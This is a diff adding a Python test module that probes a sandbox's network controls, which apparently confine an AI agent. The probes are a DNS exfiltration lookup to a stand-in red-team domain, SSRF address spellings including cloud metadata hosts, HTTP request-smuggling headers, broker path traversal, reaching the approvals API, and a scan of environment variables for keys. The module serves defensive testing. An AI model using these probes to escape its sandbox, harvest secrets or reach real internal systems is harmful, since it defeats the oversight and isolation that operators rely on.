@@ -1,0 +1,282 @@
+"""Attempts on the network: past the doors, through the egress door, and at the broker's."""
+
+from __future__ import annotations
+
+import os
+import socket
+from collections.abc import Callable, Iterator
+
+from .ledger import Attempt, Facts, Skipped, got
+
+BROKER, PROXY = 8082, 3128
+SECONDS = 6
+BESIDE = (
+    ("1.1.1.1", 80),
+    ("8.8.8.8", 53),
+    ("169.254.169.254", 80),
+    ("10.0.0.1", 22),
+    ("172.17.0.1", 2375),
+    ("192.168.0.1", 80),
+    ("2606:4700:4700::1111", 443),
+    ("fe80::1", 80),
+)
+INWARD = (
+    "127.0.0.1",
+    "localhost",
+    "localhost.",
+    "0.0.0.0",  # noqa: S104  a name to be refused
+    "127.1",
+    "0177.0.0.1",
+    "0x7f.1",
+    "2130706433",
+    "[::]",
+    "[::1]",
+    "[::ffff:127.0.0.1]",
+    "[::ffff:7f00:1]",
+    "[64:ff9b::7f00:1]",
+    "\u2460\u2461\u2466.0.0.1",
+    "169.254.169.254",
+    "[fd00:ec2::254]",
+    "metadata.google.internal",
+    "10.0.0.1",
+    "192.168.0.1",
+    "user@127.0.0.1",
+)
+CROOKED = {
+    "two framings": "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
+    "two lengths": "Content-Length: 5\r\nContent-Length: 6\r\n",
+    "a space before the colon": "Transfer-Encoding : chunked\r\n",
+    "a folded line": "X: y\r\n folded\r\n",
+    "a bare line end": "X: y\nTransfer-Encoding: chunked\r\n",
+    "two hosts": "Host: other.example\r\n",
+    "an odd coding": "Transfer-Encoding: identity, chunked\r\n",
+    "an odd length": "Content-Length: +5\r\n",
+    "a NUL": "X: a\0b\r\n",
+}
+PROVIDERS = ("api.openai.com", "api.anthropic.com", "generativelanguage.googleapis.com")
+NAMES = (
+    "OPENAI",
+    "%6fpenai",
+    "openai%00",
+    "__proto__",
+    "..",
+    "%2e%2e/v1",
+    "custom/NOT_MINE_AT_ALL?target=https://example.com",
+    "openai/../../v1/approvals",
+)
+MANAGEMENT = (
+    "openai/v1/organization/admin_api_keys",
+    "openai/v1/files",
+    "anthropic/v1/organizations/api_keys",
+)
+
+
+def _say(port: int, request: bytes) -> str:
+    """What a door answers, its first line; "closed" when it says nothing."""
+    with socket.create_connection(("127.0.0.1", port), SECONDS) as door:
+        door.settimeout(SECONDS)
+        door.sendall(request)
+        answer = door.recv(65536)
+    return answer.split(b"\r\n", 1)[0].decode("latin-1") or "closed"
+
+
+def _passed(line: str) -> str | None:
+    """None for a refusal: a status of 400 or more, or a closed connection."""
+    words = line.split()
+    if len(words) < 2 or not words[1].isdigit():
+        return None if line == "closed" else line
+    return None if int(words[1]) >= 400 else line
+
+
+def _asked(port: int, request: bytes) -> Callable[[], object]:
+    def act() -> object:
+        try:
+            return _passed(_say(port, request))
+        except ConnectionRefusedError as error:
+            raise Skipped(f"nothing listens at port {port}") from error
+        except (ConnectionError, TimeoutError):
+            return None
+
+    return act
+
+
+def _connect(authority: str) -> bytes:
+    return f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode()
+
+
+def _get(target: str, host: str, more: str = "") -> bytes:
+    head = f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n"
+    return head.encode("utf-8", "surrogateescape")
+
+
+def straight_out(_facts: Facts) -> str:
+    """Threats 61, 77: leaving without a door, by TCP, UDP and ICMP."""
+
+    def reach(address: tuple[str, int], kind: int) -> Callable[[], object]:
+        def act() -> object:
+            family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
+            with socket.socket(family, kind) as out:
+                out.settimeout(3)
+                out.connect(address)
+                out.send(b"x")
+                return "sent"
+
+        return act
+
+    kinds = (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM))
+    tries = [(f"{name} {at[0]}", reach(at, kind)) for at in BESIDE for name, kind in kinds]
+    return got([*tries, ("icmp", _ping), ("interfaces", _interfaces), ("packets", _packets)])
+
+
+def _ping() -> object:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as out:
+        out.sendto(b"\x08\0\0\0\0\0\0\0", ("1.1.1.1", 0))
+        return "sent"
+
+
+def _packets() -> object:
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW):
+        return "a raw socket"
+
+
+def _interfaces() -> object:
+    others = [name for _number, name in socket.if_nameindex() if name != "lo"]
+    return others or None
+
+
+def lookups(_facts: Facts) -> str:
+    """Threat 62: letting a resolver carry words out."""
+
+    def look() -> object:
+        return socket.getaddrinfo("secret.atoll-redteam.example", 80)
+
+    return got([("a name", look)])
+
+
+def inward(facts: Facts) -> str:
+    """Threats 64, 74: every spelling of the machine's own and its neighbours' addresses."""
+    ports = {22, 80, int(facts.told.get("api_port") or 80)} - set(facts.words("host_ports"))
+    tries = []
+    for host in INWARD:
+        for port in sorted(ports):
+            at = f"{host}:{port}"
+            tries.append((f"CONNECT {at}", _asked(PROXY, _connect(at))))
+            tries.append((f"GET {at}", _asked(PROXY, _get(f"http://{at}/", at))))
+    return got(tries)
+
+
+def ports(facts: Facts) -> str:
+    """Threat 67: ports that are on no list, and what is no port."""
+    if facts.text("mode") == "full":
+        raise Skipped("the network mode is full: any port of a public address is allowed")
+    odd = ("github.com:22", "github.com:25", "github.com:0", "github.com:443x", "github.com",
+           "github.com:65536", "github.com:-1", ":443")  # fmt: skip
+    return got((one, _asked(PROXY, _connect(one))) for one in odd)
+
+
+def unlisted(facts: Facts) -> str:
+    """Threat 62: names that are on no list."""
+    if facts.text("mode") == "full":
+        raise Skipped("the network mode is full")
+    name = "c2VjcmV0.atoll-redteam.example"
+    return got([
+        ("CONNECT", _asked(PROXY, _connect(f"{name}:443"))),
+        ("GET", _asked(PROXY, _get(f"http://{name}/", name))),
+    ])  # fmt: skip
+
+
+def providers(_facts: Facts) -> str:
+    """Threat 76: a model provider through the egress door, with a key of one's own."""
+    return got((one, _asked(PROXY, _connect(f"{one}:443"))) for one in PROVIDERS)
+
+
+def smuggling(_facts: Facts) -> str:
+    """Threat 72: requests that two readers could cut in two ways, at both doors."""
+
+    def tries() -> Iterator[tuple[str, Callable[[], object]]]:
+        for name, more in CROOKED.items():
+            plain = _get("http://github.com/", "github.com", more)
+            yield f"egress, {name}", _asked(PROXY, plain)
+            broker = _get("/broker/openai/v1/models", "127.0.0.1", more)
+            yield f"broker, {name}", _asked(BROKER, broker)
+
+    return got(tries())
+
+
+def squatting(_facts: Facts) -> str:
+    """Threat 78: taking a door's port."""
+
+    def take(family: int, host: str, port: int) -> Callable[[], object]:
+        def act() -> object:
+            with socket.socket(family) as mine:
+                mine.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+                mine.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+                mine.bind((host, port))
+                return "taken"
+
+        return act
+
+    hosts = (
+        (socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"),  # noqa: S104
+        (socket.AF_INET6, "::1"), (socket.AF_INET6, "::"),
+    )  # fmt: skip
+    return got(
+        (f"{host} {port}", take(family, host, port))
+        for family, host in hosts
+        for port in (BROKER, PROXY)
+    )
+
+
+def broker_names(_facts: Facts) -> str:
+    """Threat 89: providers and secrets by other spellings, and what is no inference."""
+    tries = [
+        (name, _asked(BROKER, _get(f"/broker/{name}", "127.0.0.1")))
+        for name in (*NAMES, *MANAGEMENT)
+    ]
+    tries += [
+        ("CONNECT", _asked(BROKER, _connect("127.0.0.1:22"))),
+        ("absolute", _asked(BROKER, _get("http://169.254.169.254/", "169.254.169.254"))),
+    ]
+    return got(tries)
+
+
+def control_plane(facts: Facts) -> str:
+    """Threat 96: reaching the API, where approvals are given."""
+    host, port = facts.text("api_host") or "127.0.0.1", int(facts.told.get("api_port") or 80)
+
+    def straight() -> object:
+        with socket.create_connection((host, port), 3):
+            return "connected"
+
+    at = f"{host}:{port}"
+    return got([
+        ("straight", straight),
+        ("by the egress door", _asked(PROXY, _get(f"http://{at}/v1/approvals", at))),
+        ("by the broker", _asked(BROKER, _get("/v1/approvals", "127.0.0.1"))),
+    ])  # fmt: skip
+
+
+def variables(_facts: Facts) -> str:
+    """Environment variables that look like a key and are no placeholder."""
+    telling = ("KEY", "TOKEN", "SECRET", "PASSWORD")
+    found = [
+        name
+        for name, value in os.environ.items()
+        if name.upper().endswith(telling) and value and "atoll" not in value
+    ]
+    return ", ".join(found)
+
+
+ATTEMPTS = [
+    Attempt("61", "leave without a door", straight_out),
+    Attempt("62", "ask a resolver", lookups),
+    Attempt("62", "name hosts that are not allowed", unlisted),
+    Attempt("64", "reach inner addresses through the egress door", inward),
+    Attempt("67", "reach ports that are not allowed", ports),
+    Attempt("72", "smuggle requests through the doors", smuggling),
+    Attempt("76", "reach model providers past the broker", providers),
+    Attempt("78", "take the doors' ports", squatting),
+    Attempt("89", "use the broker for what it is not for", broker_names),
+    Attempt("96", "reach the API from inside", control_plane),
+    Attempt("79", "find keys in the environment", variables),
+]
